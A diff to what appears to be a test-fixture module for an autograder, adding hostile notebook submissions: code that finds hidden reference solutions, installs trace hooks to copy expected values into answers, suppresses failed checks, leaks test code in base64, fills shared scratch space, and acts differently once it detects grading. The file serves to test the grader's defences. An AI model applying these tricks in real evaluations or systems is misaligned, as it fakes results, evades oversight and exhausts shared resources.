@@ -1,7 +1,9 @@
 """Hostile submissions: one per attack on the grader, handed in like any student's notebook.
 
 Cheating attacks start from the release (`base="release"`): their honest answers earn what an untouched
-release earns, so every point above an untouched submission is undeserved. Where an attack hands in
+release earns, so every point above an untouched submission is undeserved. Where a trick comes with wrong
+answers that could earn some points on their own, the attack names them as its `baseline`: the same
+answers without the trick, handed in as baseline-<name>, set what it may earn. Where an attack hands in
 answers of its own, they are wrong in everything a test checks (values, shapes, inputs left unchanged),
 so that without their trick they earn nothing. Resource attacks start from the reference solution
 (`base="solution"`): their points are deserved, and what matters is what they do to the grading
@@ -36,10 +38,15 @@ class Attack:
     code: str = ""  # may contain PORT_TOKEN, replaced by the listener's port
     # fn(notebook, submission folder) -> notebook to write, or None when it wrote the notebook itself
     tamper: Callable | None = None
+    baseline: dict | None = None  # {answer cell: code}: the same wrong answers, without the trick
 
     @property
     def student(self):
         return STUDENT_PREFIX + self.name
+
+    @property
+    def baseline_student(self):
+        return "baseline-" + self.name if self.baseline else None
 
 
 def _fill(template, **values):
@@ -452,11 +459,14 @@ import os
 
 
 def hoard():
-    """Keep 0.8 GB arrays (written, so really in memory) until 30 GiB or 3/4 of the machine's memory."""
+    """Keep 0.8 GB arrays until 30 GiB or 3/4 of the machine's memory. Each is written only in part:
+    writing every page costs 4 s per GB of page faults on a small virtual machine, longer than a cell may
+    run here (forked-memory-bomb writes all of its memory)."""
     limit = min(30 * 1024**3, os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES") * 3 // 4)
     kept = []
     while (len(kept) + 1) * 8 * 10**8 <= limit:
-        kept.append(np.ones(10**8))
+        kept.append(np.empty(10**8))
+        kept[-1][: 10**7] = 1.0
     return len(kept)
 
 
@@ -657,8 +667,9 @@ def feedforward(features, weights):
     os._exit(0)
 '''
 
-# An input transformer that spares cells without the answers' names (the canaries): it wraps every
-# cell that calls an answer in `try: ... except AssertionError: pass`, with names built at run time.
+# An input transformer that spares cells without the answers' names (checks a grader might insert): it
+# wraps every cell that calls an answer in `try: ... except AssertionError: pass`, with names built at
+# run time.
 SELECTIVE_TRANSFORMER = '''
 _shell = globals()["get_" + "ipython"]()
 
@@ -768,23 +779,270 @@ ATTACKS: list[Attack] = [
 ]
 
 
+# --- tricks on the tests themselves: they run in the judge, outside the kernel --------------------------
+
+# Call what the tests define: a reference implementation of the hidden tests, wherever it can be found.
+CALL_REFERENCE_SIGMOID = {"sigmoid": """
+def sigmoid(z):
+    \"\"\"Whatever the tests define as a reference, from any namespace or object of the kernel.\"\"\"
+    import gc
+    import sys
+
+    namespaces = [globals(), *(vars(module) for module in list(sys.modules.values()) if module)]
+    for namespace in namespaces:
+        for name, value in list(namespace.items()):
+            if "reference" in str(name) and callable(value):
+                return value(z)
+    for value in gc.get_objects():
+        if callable(value) and "reference" in getattr(value, "__name__", ""):
+            return value(z)
+    raise NotImplementedError()
+"""}
+
+CALL_REFERENCE_FROM_FRAMES = {"cross_validate": """
+def cross_validate(make_model, features, labels, n_splits=4):
+    \"\"\"The hidden test's reference, taken from the frames that call this function.\"\"\"
+    import sys
+
+    frame = sys._getframe(1)
+    while frame is not None:
+        for name, value in {**frame.f_globals, **frame.f_locals}.items():
+            if str(name).startswith("_reference") and callable(value):
+                return value(make_model, features, labels, n_splits)
+        frame = frame.f_back
+    raise NotImplementedError()
+"""}
+
+# Shadow the names the tests look up: if the tests computed their expected values in this kernel, an
+# MLPClassifier whose probabilities are constant, and an accuracy_score that always says 0.88, would make
+# the constant answers below right.
+SHADOWED_NAMES = """
+class MLPClassifier(MLPClassifier):
+    def predict_proba(self, features):
+        return np.full((len(features), 2), 0.5)
+
+
+def accuracy_score(*args, **kwargs):
+    return 0.88
+"""
+CONSTANT_ANSWERS = {
+    "hidden_layer_forward": """
+def hidden_layer_forward(features, coefs, intercepts):
+    return np.full(len(features), 0.5)
+""",
+    "compare_models": """
+def compare_models(train_x, train_y, test_x, test_y):
+    return {"mlp": 0.88, "logistic": 0.88}
+""",
+}
+
+# Watch a check start and fill in its answer: an array that a profile (or trace) hook fills, in place,
+# with the expected values of whichever checking frame compares it.
+WATCHED_ZEROS = {"sigmoid": """
+def sigmoid(z):
+    return np.zeros(np.shape(z))
+"""}
+PROFILE_HOOK = """
+import sys as _sys
+
+
+def _fill_from_checks(frame, event, arg):
+    if event == "call" and "expected" in frame.f_locals and "got" in frame.f_locals:
+        got = frame.f_locals["got"]
+        if type(got) is np.ndarray and np.size(got) == np.size(frame.f_locals["expected"]):
+            got.ravel()[:] = np.ravel(frame.f_locals["expected"])
+    return None
+
+
+_sys.setprofile(_fill_from_checks)
+"""
+TRACE_HOOK = """
+import sys as _sys
+import threading as _threading
+
+
+def _trace(frame, event, arg):
+    if event == "call" and {"expected", "got"} <= set(frame.f_locals):
+        got = frame.f_locals["got"]
+        if type(got) is np.ndarray and np.size(got) == np.size(frame.f_locals["expected"]):
+            got.ravel()[:] = np.ravel(frame.f_locals["expected"])
+    return _trace
+
+
+_sys.settrace(_trace)
+_threading.settrace(_trace)
+"""
+
+# Rewrite how cells run: the shell, reached through __main__ without get_ipython, runs every cell that
+# checks an answer inside try/except, so that a failed check shows no error.
+PATCHED_RUN_CELL = """
+import sys as _sys
+
+_shell = _sys.modules["__main__"].__dict__["get_" + "ipython"]()
+_run_cell = _shell.run_cell
+
+
+def _forgiving_run_cell(raw_cell, *args, **kwargs):
+    if "expect_" in raw_cell or "call(" in raw_cell:
+        raw_cell = "try:\\n" + "".join("    " + line + "\\n" for line in raw_cell.splitlines()) + \\
+            "    pass\\nexcept AssertionError:\\n    pass\\n"
+    return _run_cell(raw_cell, *args, **kwargs)
+
+
+_shell.run_cell = _forgiving_run_cell
+"""
+
+# Read the tests and hand them out: every frame's code and locals while an answer is called, and the
+# input history, printed reversed and in base64, in the answer's output and in a cell added at the end.
+PRINT_FRAMES = {"feedforward": """
+def feedforward(features, weights):
+    import base64
+    import inspect
+    import sys
+
+    frame = sys._getframe(1)
+    while frame is not None:
+        try:
+            source = inspect.getsource(frame.f_code)
+        except (OSError, TypeError):
+            source = ""
+        seen = source + repr(sorted(frame.f_locals))
+        print(seen[::-1])
+        print(base64.b64encode(seen.encode()).decode())
+        frame = frame.f_back
+    raise NotImplementedError()
+"""}
+PRINT_HISTORY_ENCODED = """
+import base64 as _base64
+import sys as _sys
+
+for _text in _sys.modules["__main__"].__dict__.get("In", []):
+    print(_text[::-1])
+    print(_base64.b64encode(_text.encode()).decode())
+"""
+
+
+def _add_last_cell(code):
+    """A tamper that adds a cell of the student's at the end of the notebook."""
+
+    def tamper(notebook, folder):
+        notebook.cells.append(nbformat.v4.new_code_cell(code))
+        return notebook
+
+    return tamper
+
+
+# Exhaust shared scratch space: as many files as it can in every writable place it finds (home, /tmp,
+# /dev/shm, Jupyter's runtime folder, where the kernel's sockets are), and as many bytes; it says how
+# many it made. A kernel's scratch space is its own: an honest notebook graded beside it must not notice.
+FILL_SCRATCH = """
+import os as _os
+
+
+def _fill(folder, files=20000, size=0):
+    made = 0
+    for number in range(files):
+        try:
+            with open(_os.path.join(folder, f"filler-{number}"), "wb") as filler:
+                filler.write(b"x" * size)
+            made += 1
+        except OSError:
+            break
+    return made
+
+
+for _folder in (_os.path.expanduser("~/.local/share/jupyter/runtime"), _os.path.expanduser("~"), "/tmp",
+                "/dev/shm"):
+    print("files made in", _folder, ":", _fill(_folder))
+print("megabytes written to /tmp:", _fill("/tmp", files=800, size=2**20))
+"""
+
+# Tell a grading run from the student's own, and only then try the tricks: the kernel's environment
+# names no grader, its home is an ordinary one; what it finds, it prints when the answer cell runs.
+DETECT_GRADING = """
+import os as _os
+import sys as _sys
+
+_graders = sorted(name for name in _sys.modules if "coursetools" in name or "nbgrader" in name)
+print("the kernel sees:", {"environment": sorted(_os.environ), "cwd": _os.getcwd(),
+                           "home": _os.path.expanduser("~"), "grader modules": _graders})
+_graded = any("NBGRADER" in name for name in _os.environ) or "autograded" in _os.getcwd() or bool(_graders)
+"""
+TRICKS_WHEN_GRADED = {"sigmoid": """
+def sigmoid(z):
+    if _graded:
+        for name, value in list(globals().items()):
+            if "reference" in name and callable(value):
+                return value(z)
+    raise NotImplementedError()
+"""}
+
+NEW_ATTACKS = [
+    Attack("call-reference", "logistic_network", "sigmoid calls any function named like a reference it finds",
+           tamper=_append_to_answer_cells(CALL_REFERENCE_SIGMOID)),
+    Attack("call-reference-frames", "digits_cv",
+           "cross_validate calls a _reference function found in the frames that call it",
+           tamper=_append_to_answer_cells(CALL_REFERENCE_FROM_FRAMES)),
+    Attack("shadow-names", "hidden_layers",
+           "constant answers, an MLPClassifier with constant probabilities and an accuracy_score of 0.88",
+           cell="hidden_layer_forward", code=SHADOWED_NAMES, tamper=_append_to_answer_cells(CONSTANT_ANSWERS),
+           baseline=CONSTANT_ANSWERS),
+    Attack("watch-profile", "logistic_network",
+           "a zeros sigmoid, filled in place with the expected values by a profile hook",
+           cell="sigmoid", code=PROFILE_HOOK, tamper=_append_to_answer_cells(WATCHED_ZEROS),
+           baseline=WATCHED_ZEROS),
+    Attack("watch-trace", "logistic_network",
+           "a zeros sigmoid, filled in place with the expected values by a trace hook (all threads)",
+           cell="sigmoid", code=TRACE_HOOK, tamper=_append_to_answer_cells(WATCHED_ZEROS),
+           baseline=WATCHED_ZEROS),
+    Attack("patched-run-cell", ASSIGNMENT,
+           "wrong answers, and the shell's run_cell, reached through __main__, wraps checks in try/except",
+           cell="add_bias", code=PATCHED_RUN_CELL, tamper=_append_to_answer_cells(WRONG_ANSWERS)),
+    Attack("print-frames", ASSIGNMENT,
+           "feedforward prints every calling frame's code and locals, reversed and in base64",
+           tamper=_append_to_answer_cells(PRINT_FRAMES)),
+    Attack("print-history-encoded", ASSIGNMENT,
+           "a last cell prints the input history, reversed and in base64",
+           tamper=_add_last_cell(PRINT_HISTORY_ENCODED)),
+    Attack("fill-scratch", ASSIGNMENT,
+           "fills home, /tmp, /dev/shm and the runtime folder with files and /tmp with bytes",
+           base="solution", cell="add_bias", code=FILL_SCRATCH),
+    Attack("detect-grading", "logistic_network",
+           "looks for signs of grading and prints them; sigmoid then looks for a reference",
+           cell="sigmoid", code=DETECT_GRADING, tamper=_append_to_answer_cells(TRICKS_WHEN_GRADED)),
+]
+
+ATTACKS += NEW_ATTACKS
+
+
 def submit_attack(root: Path, attack: Attack, port: int) -> str:
-    """Build submitted/attack-<name>/<assignment>/ in course `root` (release/ and solutions/ exist there);
-    return the student id."""
+    """Build submitted/attack-<name>/<assignment>/ in course `root` (release/ and solutions/ exist there),
+    and submitted/baseline-<name>/<assignment>/ when the attack has a baseline; return the student id."""
     kind = {"release": "release", "solution": "solutions"}[attack.base]
     notebook = nbformat.read(notebook_path(root, kind, attack.assignment), as_version=4)
+    if attack.baseline:
+        _write(root, attack.assignment, attack.baseline_student,
+               _append_to_answer_cells(attack.baseline)(nbformat.from_dict(notebook), None))
     if attack.cell:
         code = attack.code.replace(PORT_TOKEN, str(port))
         cells = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == attack.cell]
         if len(cells) != 1 or not _is_answer(cells[0]):
             raise KeyError(f"no answer cell {attack.cell!r} in {attack.assignment}")
         cells[0].source = f"{code}\n{cells[0].source}"
-    target = notebook_path(root, "submitted", attack.assignment, attack.student)
-    if target.parent.exists():
-        shutil.rmtree(target.parent)
-    target.parent.mkdir(parents=True)
+    target = _write(root, attack.assignment, attack.student, None)
     if attack.tamper is not None:
         notebook = attack.tamper(notebook, target.parent)
     if notebook is not None:
         nbformat.write(notebook, target)
     return attack.student
+
+
+def _write(root, assignment, student, notebook):
+    """submitted/<student>/<assignment>/, made anew, with `notebook` in it (unless None); its path."""
+    target = notebook_path(root, "submitted", assignment, student)
+    if target.parent.exists():
+        shutil.rmtree(target.parent)
+    target.parent.mkdir(parents=True)
+    if notebook is not None:
+        nbformat.write(notebook, target)
+    return target
